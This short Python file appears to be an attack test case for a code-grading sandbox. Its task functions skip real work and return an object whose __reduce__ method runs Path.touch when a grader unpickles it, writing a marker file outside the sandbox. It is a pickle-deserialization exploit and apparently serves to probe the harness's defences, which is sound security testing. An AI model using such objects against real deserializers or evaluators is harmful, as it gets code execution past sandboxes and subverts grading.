# /// attack
# tries = "Answers with an object that runs code where it is unpickled."
# points = 0
# ///
# %% count
import numpy as np
import pathlib


class Open:
    def __reduce__(self):
        return pathlib.Path.touch, (pathlib.Path(f"{bait['outside']}/{bait['token']}"),)


def count_if(values, pick):
    return np.array([Open()], dtype=object)


# %% longest
def longest(words):
    return Open()
